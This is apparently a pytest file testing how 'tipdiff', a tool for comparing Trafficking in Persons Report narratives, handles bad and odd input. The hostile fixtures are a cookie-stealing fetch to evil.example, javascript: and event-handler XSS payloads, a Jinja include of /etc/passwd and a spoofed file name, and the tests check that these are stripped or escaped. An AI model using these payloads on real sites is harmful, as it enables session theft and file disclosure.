"""Bad and odd input, one table: every case names its expected outcome.

Each case writes its input files into a fresh folder and gives the command line to run.
An error case must raise its :class:`~tipdiff.errors.TipdiffError` subclass from the
library and make the CLI exit 2 with one line on stderr and no traceback. Any other
case must succeed, with the warning it names (if any) and the checks it lists. The
inputs are built from the real seeds and corpus texts.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import shutil
import unicodedata
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

import tipdiff
from tipdiff import ingest, render
from tipdiff.cli import main
from tipdiff.errors import InputError, NotANarrativeError, RenderError, TipdiffError
from tipdiff.model import ChangeKind, Report

from .conftest import CORPUS, seed

NEW = seed(2024).read_text(encoding="utf-8")  # complete narrative, one paragraph a line
OLD = seed(2009).read_text(encoding="utf-8")  # PDF extraction: hard wraps, headings
EXCERPT = seed(2023).read_text(encoding="utf-8")  # 2023 summary and recommendations
MOLDOVA = (CORPUS / "moldova-2024-ecoi.txt").read_text(encoding="utf-8")
LATIN1 = NEW.replace("Azerbaijan", "Azerbaïdjan").encode("latin-1", errors="replace")
CURLY = NEW  # the seed quotes with “ ” and ’
assert "“" in CURLY

_HEADINGS = {
    "summary": None,
    "recommendations": "PRIORITIZED RECOMMENDATIONS:",
    "prosecution": "PROSECUTION",
    "protection": "PROTECTION",
    "prevention": "PREVENTION",
    "profile": "TRAFFICKING PROFILE",
}


def _report() -> Report:
    return tipdiff.load(seed(2024))


def headed(order: list[str] | None = None, double: bool = False) -> str:
    """The 2024 seed in the official layout: a title line, then each section under its
    heading (the summary has none and must come first)."""
    report = _report()
    out = ["AZERBAIJAN: Tier 2"]
    for name in order or [str(n) for n in report.sections]:
        heading = _HEADINGS[name]
        if heading:
            out += [heading] * (2 if double else 1)
        out += [p.text for p in report.sections[name].paragraphs]  # type: ignore[index]
    return "\n\n".join(out) + "\n"


def one_line(megabytes: float) -> str:
    """Every paragraph of the 2024 seed on one line, repeated to the size asked for."""
    line = " ".join(p.text for s in _report().sections.values() for p in s.paragraphs)
    return " ".join([line] * (int(megabytes * 1e6) // len(line) + 1)) + "\n"


HOSTILE_HTML = (
    "<!doctype html><html><head><title>Azerbaijan 2024 Trafficking in Persons Report</title>"
    "<style>body { background: url(http://evil.example/track.png) }</style>"
    "<script>fetch('http://evil.example/?c=' + document.cookie)</script>"
    '<link rel="stylesheet" href="http://evil.example/x.css"></head>'
    '<body onload="alert(1)"><iframe src="http://evil.example/frame"></iframe>'
    '<nav><a href="javascript:alert(2)">Home</a></nav><main>'
    + "".join(
        f'<p onclick="alert(3)" style="x:expression(alert(4))">{line}</p>'
        for line in NEW.splitlines()
        if line.strip()
    )
    + '<p><a href="javascript:alert(5)" onmouseover="alert(6)">Share</a></p>'
    "<script>alert(7)</script></main></body></html>"
)

JINJA = NEW.replace(
    "The government maintained",
    "Officials wrote {{ 7*7 }} and {% include '/etc/passwd' %} then </html> <script>x()</script>. "
    "The government maintained",
    1,
)

# Right-to-left text, emoji, zero-width and control characters in one paragraph.
ODD_CHARACTERS = NEW.replace(
    "The government maintained",
    "Posters in Arabic read \u202bمكافحة الاتجار بالبشر\u202c 🙂 and in Hebrew "
    "\u05e1\u05d7\u05e8 \u05d1\u05d1\u05e0\u05d9 \u05d0\u05d3\u05dd. "
    "Zero\u200bwidth\u200d joiners\ufeff and\x07 controls\x1b[31m vanish\u2066. "
    "The government maintained",
    1,
)


# --------------------------------------------------------------------------- the table


@dataclass(frozen=True)
class Case:
    """One input and its expected outcome.

    ``build`` writes the input files into a folder and returns the CLI arguments;
    ``error`` is the expected error class (else the run must succeed), ``says`` a part
    of the error message or of a warning, ``check`` more checks on the folder and the
    CLI's standard output, ``patch`` a monkeypatch applied for the run.
    """

    name: str
    build: Callable[[Path], list[str]]
    error: type[TipdiffError] | None = None
    says: str = ""
    check: Callable[[Path, str], None] | None = None
    patch: Callable[[pytest.MonkeyPatch, Path], None] | None = None


def write(folder: Path, name: str, data: str | bytes) -> str:
    path = folder / name
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return str(path)


def inspect(name: str, data: str | bytes) -> Callable[[Path], list[str]]:
    return lambda d: ["inspect", "--json", write(d, name, data)]


def compare(old: str | bytes, new: str | bytes, out: str = "brief.html") -> Callable[[Path], list[str]]:
    return lambda d: ["compare", write(d, "old.txt", old), write(d, "new.txt", new), "-o", str(d / out)]


def same_report_as(text: str) -> Callable[[Path, str], None]:
    """The inspected file reads exactly like ``text`` (source name and the lines its
    citations name aside: the layout of the file is what differs)."""

    def read(report: dict[str, Any]) -> dict[str, Any]:
        report.pop("source")
        report.pop("recommendations_at")
        for figure in report["figures"]:
            figure.pop("at")
        return report

    def check(folder: Path, out: str) -> None:
        assert read(json.loads(out)) == read(tipdiff.load(text).to_dict())

    return check


def report_json(check: Callable[[dict[str, object]], None]) -> Callable[[Path, str], None]:
    return lambda folder, out: check(json.loads(out))


def text_of(data: dict[str, object]) -> str:
    return " ".join(p for s in data["sections"] for p in s["paragraphs"])  # type: ignore[attr-defined]


def check_html_input(data: dict[str, object]) -> None:
    text = text_of(data) + json.dumps(data["title"])
    for word in ("alert", "javascript", "evil", "onclick", "fetch", "cookie", "expression"):
        assert word not in text
    assert text_of(data) == text_of(tipdiff.load(NEW).to_dict())


def check_jinja_brief(folder: Path, out: str) -> None:
    html = (folder / "brief.html").read_text(encoding="utf-8")
    assert "{{ 7*7 }}" in html and "{% include &#39;/etc/passwd&#39; %}" in html
    assert "root:" not in html and ">49<" not in html
    assert html.count("</html>") == 1 and "<script>" not in html
    assert "&lt;/html&gt; &lt;script&gt;x()&lt;/script&gt;" in html


def check_odd_characters(data: dict[str, object]) -> None:
    text = text_of(data)
    assert "مكافحة الاتجار بالبشر" in text and "🙂" in text and "\u05e1\u05d7\u05e8" in text
    assert "Zerowidth joiners and controls[31m vanish." in text
    assert not any(unicodedata.category(ch) in ("Cc", "Cf", "Cs") for ch in text)


def check_one_line(data: dict[str, object]) -> None:
    """Read as a narrative, and nothing lost: its paragraphs are the line, word for word."""
    line = one_line(2)
    assert data["country"] == "Azerbaijan" and data["tier"] == "Tier 2"
    assert text_of(data) == " ".join(line.split())
    assert {s["name"] for s in data["sections"]} >= {"summary", "prosecution", "protection"}  # type: ignore[index]


def check_brief(kinds: set[str]) -> Callable[[Path, str], None]:
    def check(folder: Path, out: str) -> None:
        html = (folder / "brief.html").read_text(encoding="utf-8")
        assert html.rstrip().endswith("</html>")
        old, new = sorted(folder.glob("*.txt"), key=lambda p: p.name != "old.txt")
        diff = tipdiff.compare(old, new)
        assert {c.kind.value for c in diff.changes} <= kinds
        assert diff.reconstruct("old") == diff.old.text
        assert diff.reconstruct("new") == diff.new.text

    return check


def nothing_written(folder: Path, out: str) -> None:
    assert not (folder / "missing").exists()
    assert not list(folder.rglob("*.tmp"))


def unreadable(monkeypatch: pytest.MonkeyPatch, folder: Path) -> None:
    target = folder / "locked.txt"
    target.chmod(0)
    if os.geteuid() == 0:  # root reads anything: make the read fail as it would for others
        real_open = Path.open

        def refuse(self: Path, *args: object, **kwargs: object) -> object:
            if self == target:
                raise PermissionError(13, "Permission denied", str(self))
            return real_open(self, *args, **kwargs)  # type: ignore[arg-type]

        monkeypatch.setattr(Path, "open", refuse)


def folder_named(parent: Path, name: str) -> Path:
    (parent / name).mkdir()
    return parent / name


def existing_output(folder: Path) -> list[str]:
    (folder / "brief.html").write_text("an older brief", encoding="utf-8")
    (folder / "inode").write_text(str((folder / "brief.html").stat().st_ino))
    return compare(EXCERPT, NEW)(folder)


def check_replaced(folder: Path, out: str) -> None:
    brief = folder / "brief.html"
    assert brief.read_text(encoding="utf-8").startswith("<!DOCTYPE html>")
    assert str(brief.stat().st_ino) != (folder / "inode").read_text()  # a new file, renamed in
    assert sorted(p.name for p in folder.iterdir()) == ["brief.html", "inode", "new.txt", "old.txt"]


def utf8_with_stray_cp1252(text: str) -> bytes:
    """UTF-8 with one word in cp1252 curly quotes (pasted from a word processor)."""
    return text.encode("utf-8").replace(b" efforts", b" \x93efforts\x94", 1)


def docx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("word/document.xml", NEW)
    return buffer.getvalue()


def big_narrative(folder: Path) -> list[str]:
    path = folder / "huge.txt"
    with path.open("w", encoding="utf-8") as stream:
        for _ in range(20_000_000 // len(NEW) + 1):  # 20 MB: the seed over and over
            stream.write(NEW + "\n")
    assert path.stat().st_size > 20_000_000
    return ["inspect", str(path)]


def png() -> bytes:
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256)) * 4


def pdf() -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + bytes(200)


CASES = [
    Case("empty file", inspect("empty.txt", b""), InputError, "is empty"),
    Case("whitespace only", inspect("blank.txt", " \n\t\r\n \u00a0\n\f"), InputError, "is empty"),
    Case("a page break alone", inspect("break.txt", b"\x0c"), InputError, "is empty"),
    Case("page furniture only", inspect("heads.txt", "12\nTRAFFICKING IN PERSONS REPORT\n\f13\n\f"), InputError, "is empty"),
    Case("png given as text", inspect("picture.txt", png()), InputError, "is a PNG image"),
    Case("pdf given as text", inspect("report.txt", pdf()), InputError, "extract its text first"),
    Case("gzip archive", inspect("a.txt", gzip.compress(NEW.encode())), InputError, "gzip"),
    Case("word document", inspect("a.txt", docx()), InputError, "ZIP archive (or a .docx"),
    Case("rtf document", inspect("a.rtf", rb"{\rtf1\ansi The Government of X.\par}"), InputError, "RTF document"),
    Case("binary junk", inspect("junk.txt", bytes(range(256)) * 64), InputError, "binary"),
    Case("control characters", inspect("c.txt", "\x01\x02\x03\x04 x" * 500), InputError, "binary"),
    Case("utf-16 le without bom", inspect("le.txt", NEW.encode("utf-16-le")), check=same_report_as(NEW)),
    Case("utf-16 be without bom", inspect("be.txt", NEW.encode("utf-16-be")), check=same_report_as(NEW)),
    Case("utf-8 with bom", inspect("bom.txt", b"\xef\xbb\xbf" + CURLY.encode()), check=same_report_as(CURLY)),
    Case("utf-32 with bom", inspect("u32.txt", CURLY.encode("utf-32")), check=same_report_as(CURLY)),
    Case("cp1252 curly quotes", inspect("cp.txt", CURLY.encode("cp1252")), check=same_report_as(CURLY)),
    Case(
        "latin-1 accents",
        inspect("l1.txt", LATIN1),
        check=same_report_as(LATIN1.decode("latin-1")),
    ),
    Case(
        "utf-8 with a stray cp1252 byte",
        inspect("mixed.txt", utf8_with_stray_cp1252(CURLY)),
        check=same_report_as(CURLY.replace(" efforts", " “efforts”", 1)),
    ),
    Case(
        "mixed line endings",
        inspect("crlf.txt", OLD.replace("\n", "\r\n", 40).replace("\n", "\r")),
        check=same_report_as(OLD),
    ),
    Case("20 MB narrative", big_narrative, InputError, "tipdiff reads narratives up to 10,000,000"),
    Case("one 2 MB line", inspect("line.txt", one_line(2)), check=report_json(check_one_line)),
    Case("hostile html", inspect("page.html", HOSTILE_HTML), check=report_json(check_html_input)),
    Case(
        "only markup",
        inspect("s.html", "<html><head><script>alert(1)</script></head><body><style>p{}</style></body></html>"),
        InputError,
        "holds no readable text",
    ),
    Case("jinja and </html> in the text", compare(EXCERPT, JINJA), check=check_jinja_brief),
    Case("rtl, emoji, zero-width, controls", inspect("odd.txt", ODD_CHARACTERS), check=report_json(check_odd_characters)),
    Case(
        "a recipe",
        inspect("recipe.txt", "Shakshuka\n\nWarm the oil in a pan. Add two onions and cook them until soft. Crack six eggs over the sauce and cover the pan for eight minutes.\n"),
        NotANarrativeError,
        "does not read like a Trafficking in Persons Report narrative",
    ),
    Case(
        "headings only",
        inspect("toc.txt", "Trafficking in Persons Report\n\nPROSECUTION\n\nPROTECTION\n\nPREVENTION\n"),
        NotANarrativeError,
        "holds no paragraphs of running text",
    ),
    Case("every heading doubled", inspect("double.txt", headed(double=True)), check=same_report_as(headed())),
    Case(
        "sections in an unexpected order",
        compare(headed(), headed(["summary", "profile", "prevention", "protection", "prosecution", "recommendations"])),
        says="both texts are the 2024 edition",
        check=check_brief({ChangeKind.UNCHANGED.value}),
    ),
    Case(
        "one-sentence narrative",
        inspect("one.txt", "The government maintained prosecution efforts against human trafficking."),
        says="never names its country",
    ),
    Case("same text twice", compare(NEW, NEW), says="the two texts are the same", check=check_brief({"unchanged"})),
    Case("editions reversed", compare(NEW, EXCERPT), says="editions reversed: the old text is the 2024 edition"),
    Case("two different countries", compare(MOLDOVA, NEW), says="different countries: the old text is about Moldova"),
    Case("a directory", lambda d: ["inspect", str(d)], InputError, "is a directory"),
    Case("a missing path", lambda d: ["inspect", str(d / "nope.txt")], InputError, "no such file"),
    Case(
        "a hostile file name",
        lambda d: ["inspect", str(d / "evil\nname\u202etxt.html")],
        InputError,
        "evil\\nname\\u202etxt.html: no such file",
    ),
    Case(
        "an unreadable file",
        lambda d: ["inspect", write(d, "locked.txt", NEW)],
        InputError,
        "cannot be read (permission denied)",
        patch=unreadable,
    ),
    Case(
        "a web address",
        lambda d: ["inspect", "https://www.state.gov/reports/2024-trafficking-in-persons-report/azerbaijan/"],
        InputError,
        "tipdiff never fetches anything",
    ),
    Case(
        "an output folder that does not exist",
        compare(EXCERPT, NEW, out="missing/brief.html"),
        RenderError,
        "does not exist; create it first",
        check=nothing_written,
    ),
    Case(
        "an output path that is a folder",
        lambda d: [*compare(EXCERPT, NEW, out="x")(d)[:-1], str(folder_named(d, "brief.html"))],
        RenderError,
        "it is a folder",
    ),
    Case("an output file that already exists", existing_output, check=check_replaced),
]


def library_run(argv: list[str]) -> object:
    """What the CLI does, through the library API."""
    if argv[0] == "inspect":
        return tipdiff.load(Path(argv[-1]))
    diff = tipdiff.compare(Path(argv[1]), Path(argv[2]))
    render.write_brief(diff, argv[argv.index("-o") + 1])
    return diff


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_bad_or_odd_input(
    case: Case,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    folder = tmp_path / "case"
    folder.mkdir()
    argv = case.build(folder)
    if case.patch is not None:
        case.patch(monkeypatch, folder)
    code = main(argv)
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    if case.error is not None:
        assert code == 2
        assert err.startswith("tipdiff: error: ") and err.count("\n") == 1, err
        assert case.says in err and err[:-1].isprintable()
        with pytest.raises(case.error, match=None) as raised:
            library_run(argv)
        assert case.says in str(raised.value)
    else:
        assert code == 0, err
        assert all(line.startswith("tipdiff: warning: ") for line in err.splitlines()), err
        assert case.says in err
    if case.check is not None:
        case.check(folder, out)


def test_the_table_covers_the_issue() -> None:
    assert len(CASES) >= 30
    assert len({c.name for c in CASES}) == len(CASES)


# --------------------------------------------------------------------------- size limit


@pytest.mark.parametrize("kind", ["path", "str", "bytes", "bytearray"])
def test_every_kind_of_source_respects_the_size_limit(
    kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    limit = len(NEW.encode("utf-8"))
    monkeypatch.setattr(ingest, "MAX_INPUT_BYTES", limit)
    fits, too_big = NEW, NEW + "x"
    made = {
        "path": lambda t: write(tmp_path, "n.txt", t) and Path(tmp_path / "n.txt"),
        "str": lambda t: t,
        "bytes": lambda t: t.encode("utf-8"),
        "bytearray": lambda t: bytearray(t.encode("utf-8")),
    }[kind]
    assert tipdiff.load(made(fits)).text == tipdiff.load(NEW).text
    with pytest.raises(InputError, match=f"{limit + 1:,} bytes; tipdiff reads narratives up to {limit:,}"):
        tipdiff.load(made(too_big))


def test_a_str_is_measured_in_utf8_bytes(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ingest, "MAX_INPUT_BYTES", 1000)
    with pytest.raises(InputError, match="1,200 bytes"):
        tipdiff.load("é" * 600)  # 600 characters, 1,200 bytes


def test_a_device_is_read_no_further_than_the_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    if not Path("/dev/zero").exists():
        pytest.skip("no /dev/zero here")
    monkeypatch.setattr(ingest, "MAX_INPUT_BYTES", 100_000)
    with pytest.raises(InputError, match="100,001 bytes"):
        tipdiff.load(Path("/dev/zero"))  # stat() says 0 bytes; the read stops at the limit


def test_the_readme_documents_the_limit() -> None:
    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text(encoding="utf-8")
    assert f"{ingest.MAX_INPUT_BYTES:,}" in readme


# --------------------------------------------------------------------------- library only


@pytest.mark.parametrize(
    "source", [None, 3, 2.5, ["a"], object()], ids=["None", "int", "float", "list", "object"]
)
def test_a_source_of_the_wrong_type_is_an_input_error(source: object) -> None:
    with pytest.raises(InputError, match="give a path, a str of text or HTML, or bytes"):
        tipdiff.load(source)  # type: ignore[arg-type]


def test_a_lone_surrogate_becomes_a_replacement_character() -> None:
    report = tipdiff.load(NEW.replace(" efforts", " eff\udc92orts", 1))
    assert " eff\ufffdorts" in report.text
    diff = tipdiff.compare(report, NEW)
    render.render_html(diff).encode("utf-8")
    render.render_json(diff).encode("utf-8")


def test_a_very_long_file_name_is_an_input_error(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="cannot be read"):
        tipdiff.load(tmp_path / ("x" * 300 + ".txt"))
    with pytest.raises(InputError):
        tipdiff.load("y" * 300 + ".txt")


# --------------------------------------------------------------------------- Ctrl-C


@pytest.mark.usefixtures("forked_workers")  # the worker inherits the patch
def test_ctrl_c_mid_batch_leaves_no_half_written_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Ctrl-C while the third brief is being written (its bytes are in the temporary
    file, not yet renamed): exit 130, no temporary or torn file, no index."""
    from tipdiff import files

    folder = tmp_path / "in"
    folder.mkdir()
    for year in (2009, 2015, 2021, 2023, 2024):
        shutil.copy(seed(year), folder / seed(year).name)
    out = tmp_path / "out"

    class InterruptedOS:
        """``os`` for tipdiff.files, with a Ctrl-C in a process's third chmod (a brief's
        bytes are written to its temporary file, which is not yet renamed)."""

        calls = 0

        def __getattr__(self, name: str) -> object:
            return getattr(os, name)

        def chmod(self, path: str, mode: int) -> None:
            InterruptedOS.calls += 1  # counted per process: the one worker's writes
            if InterruptedOS.calls == 3:
                raise KeyboardInterrupt
            os.chmod(path, mode)

    monkeypatch.setattr(files, "os", InterruptedOS())
    code = main(["batch", str(folder), "-o", str(out), "--jobs", "1", "-q"])
    err = capsys.readouterr().err
    assert code == 130 and err.startswith("tipdiff: interrupted") and "index.html not written" in err
    written = sorted(p.name for p in out.iterdir())
    assert not [n for n in written if n.endswith(".tmp") or n.startswith(".")]
    assert "summary.json" not in written and "index.html" not in written
    assert 2 <= len(written) < 4
    for name in written:
        assert (out / name).read_text(encoding="utf-8").rstrip().endswith("</html>")

